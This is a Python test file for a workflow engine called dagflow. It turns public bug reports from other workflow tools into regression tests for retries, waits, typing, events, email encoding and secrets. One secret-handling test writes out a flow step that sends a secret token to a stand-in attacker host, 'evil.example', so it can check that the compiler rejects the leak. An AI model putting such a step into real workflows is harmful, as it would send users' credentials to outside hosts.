"""Public reports about workflow engines, each as an input of our own with the value its users wanted.

The name of a test says whose report it is and its number. What is wanted of a whole kind of input is tested where the kind is; these
keep the reports findable.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import trio

import dagflow
from dagflow import Interpreter, RunStatus
from dagflow.app.simulation.test_runner import run_test
from dagflow.execution.program import prepare
from dagflow.lang.compiler import Compilation
from tests.app.host import START
from tests.app.test_poison import until_over

SECOND = 1_000_000_000


class Host:
    """A catalogue whose action `work` notes when it is called, and raises what it is told to."""

    def __init__(self) -> None:
        self.clock = dagflow.VirtualClock(START)
        self.catalog = dagflow.Catalog.builtin()
        self.calls: list[tuple[float, str]] = []
        self.raises: list[Exception] = []

        @self.catalog.action("work", effect="idempotent")
        async def work(name: str) -> str:
            """Note the call."""
            self.calls.append(((self.clock.now() - START) / SECOND, name))
            if self.raises:
                raise self.raises.pop(0)
            return name

    def compile(self, text: str) -> Compilation:
        return dagflow.compile(text, catalog=self.catalog)

    def run(self, text: str, value: object = None, name: str | None = None) -> dagflow.RunResult:
        flow = self.compile(text).unwrap(name)
        return dagflow.run(flow, value, catalog=self.catalog, clock=self.clock)

    def codes(self, text: str) -> list[str]:
        return [each.code for each in self.compile(text).diagnostics]


@pytest.fixture
def host() -> Host:
    return Host()


@pytest.mark.parametrize("route", [True, False])
def test_langgraphjs_2666_a_join_over_two_ways_runs_or_is_refused(host: Host, route: bool) -> None:
    ways = '  if route { a = work(name: "A") } else { b = work(name: "B") }\n'
    text = f'flow f(route: bool) {{\n  on manual\n{ways}  c = work(name: "C")\n  d = work(name: "D")\n}}'
    assert host.run(text, {"route": route}).status is RunStatus.SUCCEEDED
    assert [name for _, name in host.calls] == ["A" if route else "B", "C", "D"]
    assert "E404" in host.codes(text.replace('work(name: "C")', 'work(name: "C") after a, b'))


@pytest.mark.parametrize(
    ("person", "code"), [({}, "no_such_key"), ({"first": None}, "type_mismatch"), ({"first": [1]}, "type_mismatch")]
)
def test_n8n_36136_nothing_becomes_the_word_undefined(host: Host, person: object, code: str) -> None:
    result = host.run('flow f(p: json) {\n  on manual\n  work(name: "Hello ${p.first}")\n}', {"p": person})
    assert [failure.code for failure in result.failures] == [code]
    assert host.calls == []
    typed = 'type P { first: string, last: string? }\nflow f(p: P) {\n  on manual\n  work(name: "${p.last}")\n}'
    assert "E312" in host.codes(typed)


def test_prefect_22203_pauses_are_what_the_text_says(host: Host) -> None:
    host.raises = [RuntimeError("away")] * 9
    result = host.run('flow f() {\n  on manual\n  work(name: "poll") retry 3 every 10s\n}')
    assert result.status is RunStatus.FAILED
    assert [at for at, _ in host.calls] == [0, 10, 20, 30]


def test_conductor_1030_a_retry_has_a_total(host: Host) -> None:
    host.raises = [RuntimeError("away")] * 30
    host.run('flow f() {\n  on manual\n  work(name: "poll") retry 19 every 4s within 15s\n}')
    assert [at for at, _ in host.calls] == [0, 4, 8, 12]


@pytest.mark.parametrize("header", ["Bearer", "Basic", "X-Api-Key"])
def test_kestra_8092_a_secret_goes_into_headers_and_nowhere_else(host: Host, header: str) -> None:
    host.catalog.secret("token", "s3cr3t-value", hosts=["api.example"], actions=["http.request"])
    sending = f'http.request(url: "https://api.example/", token: secrets.token, token_as: "{header}")'
    assert not host.compile(f"flow f() {{\n  on manual\n  x = {sending}\n}}").has_errors
    leaking = ("work(name: secrets.token)", 'x = http.request(url: "https://evil.example/", token: secrets.token)')
    for leak, code in zip(leaking, ("E601", "E602"), strict=True):
        assert code in host.codes(f"flow f() {{\n  on manual\n  {leak}\n}}")


@pytest.mark.parametrize(
    ("until", "after"),
    [
        ("2026-01-01T00:01:00Z", 60),
        ("2025-01-01T00:00:00Z", 0),
        ("2026-01-01T02:00:00+01:00", 3600),
        ("0001-01-01T00:00:00Z", 0),
    ],
)
def test_n8n_14723_a_wait_until_a_near_or_past_time_goes_on(host: Host, until: str, after: int) -> None:
    result = host.run('flow f(t: timestamp) {\n  on manual\n  wait until t\n  work(name: "done")\n}', {"t": until})
    assert result.status is RunStatus.SUCCEEDED
    assert host.calls == [(after, "done")]


async def test_vm0_34767_a_payload_with_other_fields_starts_a_run(host: Host) -> None:
    text = 'event "push" { repo: string }\nflow f(repo: string) {\n  on event "push" as e with (repo: e.repo)\n  work(name: repo)\n}'
    async with Interpreter.open(":memory:", catalog=host.catalog, clock=host.clock) as interpreter:
        run = await interpreter.trigger(
            host.compile(text).unwrap(), "push", {"repo": "a/b", "sender": {"id": 1}, "new_field": None}
        )
        assert run is not None
        assert (await run.wait()).status is RunStatus.SUCCEEDED
    assert host.calls == [(0, "a/b")]


@pytest.mark.parametrize(
    "text", ["wait 40d", "timeout 1h\n  wait 2h", 'timeout 1h\n  work(name: "x") retry 19 every 10m within 5h']
)
def test_buzz_3021_a_wait_longer_than_the_run_is_said_at_check(host: Host, text: str) -> None:
    assert "W502" in host.codes(f"flow f() {{\n  on manual\n  {text}\n}}")


@pytest.mark.parametrize("value", ["true", 1, None, [], {}])
@pytest.mark.parametrize(
    "condition", ["filter e.active", 'if e.active { a = work(name: "on") } else { b = work(name: "off") }']
)
def test_n8n_12969_a_condition_of_another_type_fails(host: Host, value: object, condition: str) -> None:
    result = host.run(f'flow f(e: json) {{\n  on manual\n  {condition}\n  work(name: "after")\n}}', {"e": {"active": value}})
    assert [failure.code for failure in result.failures] == ["type_mismatch"]
    assert host.calls == []


def test_taskcluster_8867_an_emitted_payload_is_of_its_type(host: Host) -> None:
    text = 'event "placed" { order: {id: int} }\nflow f(b: json) {\n  on manual\n  emit "placed" (order: b)\n}'
    assert host.run(text, {"b": {"id": 1}}).status is RunStatus.SUCCEEDED
    assert [failure.code for failure in host.run(text, {"b": {"id": "1"}}).failures] == ["bad_value"]


async def test_temporal_sdk_java_1771_what_comes_too_late_is_ignored(host: Host) -> None:
    gate = trio.Event()

    @host.catalog.action("block", effect="effectful")
    async def block(attempt: dagflow.Invocation) -> str:
        """Answer when everything is over."""
        with trio.CancelScope(shield=True):
            await gate.wait()
        return f"done by attempt {attempt.attempt}"

    text = 'flow f() -> string {\n  on manual\n  a = block() timeout 10ms default "gave up"\n  return a\n}'
    async with Interpreter.open(":memory:", catalog=host.catalog) as interpreter:
        run = await interpreter.start(host.compile(text).unwrap())
        await trio.testing.wait_all_tasks_blocked(0.05)
        gate.set()
        result = await run.wait()
    assert result.output in {"gave up", "done by attempt 1"}
    assert len([node for node in result.nodes if node.id == "a"]) == 1


def mailed(folder: Path) -> list[Any]:
    import email  # noqa: PLC0415
    import email.policy  # noqa: PLC0415

    return [email.message_from_bytes(path.read_bytes(), policy=email.policy.default) for path in folder.glob("*.eml")]


def test_denomailer_36_names_and_subjects_keep_their_letters(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DAGFLOW_OUTBOX", str(tmp_path / "outbox"))
    monkeypatch.setenv("DAGFLOW_SMTP_FROM", "Bäckerei Müller <info@example.org>")
    (tmp_path / "hello.txt").write_text("Grüße", encoding="utf-8")
    monkeypatch.setenv("DAGFLOW_TEMPLATES", str(tmp_path))
    catalog = dagflow.Catalog.builtin()
    text = 'flow f() {\n  on manual\n  email(template: "hello", to: "a@example.org", subject: "Für Zoë")\n}'
    assert dagflow.run(dagflow.compile(text, catalog=catalog).unwrap(), catalog=catalog).status is RunStatus.SUCCEEDED
    (mail,) = mailed(tmp_path / "outbox")
    assert (mail["Subject"], mail["From"].addresses[0].display_name) == ("Für Zoë", "Bäckerei Müller")
    assert mail.get_content().strip() == "Grüße"


async def test_temporal_sdk_python_135_a_run_whose_action_is_gone_is_held(host: Host, tmp_path: Path) -> None:
    text = (
        'event "paid" { id: string }\nflow f() -> string {\n  on manual\n  p = wait event "paid" within 2d\n'
        '  x = work(name: p.?id ?? "never")\n  return x\n}'
    )
    flow, path = host.compile(text).unwrap(), tmp_path / "runs.db"
    opened: Callable[..., Any] = lambda catalog: Interpreter.open(path, catalog=catalog, clock=host.clock)  # noqa: E731
    async with Interpreter.open(path, catalog=host.catalog) as interpreter:
        run = await interpreter.start(flow)
        async for standing in run.watch():
            if standing.status is RunStatus.SLEEPING:
                break
    async with Interpreter.open(path, catalog=dagflow.Catalog()) as interpreter:
        await interpreter.send("paid", {"id": "42"})
        (row,) = await interpreter.runs()
        assert "which the catalog does not have" in row.blocked
    async with opened(host.catalog) as interpreter:
        assert (await until_over(interpreter, run.id)).output == "42"


@pytest.mark.parametrize("given", [{}, {"run_date": None}, None])
def test_kestra_9787_an_optional_input_that_is_left_out_is_nothing(host: Host, given: object) -> None:
    result = host.run('flow f(run_date: string?) -> string {\n  on manual\n  return run_date ?? "today"\n}', given)
    assert (result.status, result.output) == (RunStatus.SUCCEEDED, "today")


BIDS = """
event "bid" { n: int }
flow f() -> list<int> {
  on manual
  parallel {
    a = wait event "bid" within 1h
    b = wait event "bid" within 1h
  }
  c = wait event "bid" within 1h
  return [?a.?n, ?b.?n, ?c.?n]
}
test "of one instant" for f {
  given ()
  at 1m send "bid" (n: 1)
  at 1m send "bid" (n: 2)
  at 1m send "bid" (n: 3)
  expect run.output == [1, 2, 3] && run.elapsed == 1m
}
"""


async def test_camunda_3012_events_of_one_instant_are_taken_in_their_order(host: Host) -> None:
    compilation = host.compile(BIDS)
    (found,) = [run_test(each, prepare(compilation.unwrap("f")), compilation.interface) for each in compilation.tests]
    assert found.has_passed, found
    async with Interpreter.open(":memory:", catalog=host.catalog) as interpreter:
        run = await interpreter.start(compilation.unwrap("f"))
        for n in (1, 2, 3):
            await interpreter.send("bid", {"n": n})
        assert (await run.wait()).output == [1, 2, 3]


async def test_n8n_slack_approval_one_answer_is_for_one_request(host: Host) -> None:
    text = """
      event "answered" { by: string?, approved: bool }
      flow f(requests: list<string>) -> list<bool> {
        on manual
        done = for request in requests max 9 parallel 9 {
          answer = wait event "answered" within 10ms
          yield answer.?approved ?? false
        }
        return done
      }
    """
    async with Interpreter.open(":memory:", catalog=host.catalog) as interpreter:
        run = await interpreter.start(host.compile(text).unwrap(), {"requests": ["a", "b", "c"]})
        await interpreter.send("answered", {"approved": True})
        assert (await run.wait()).output == [True, False, False]
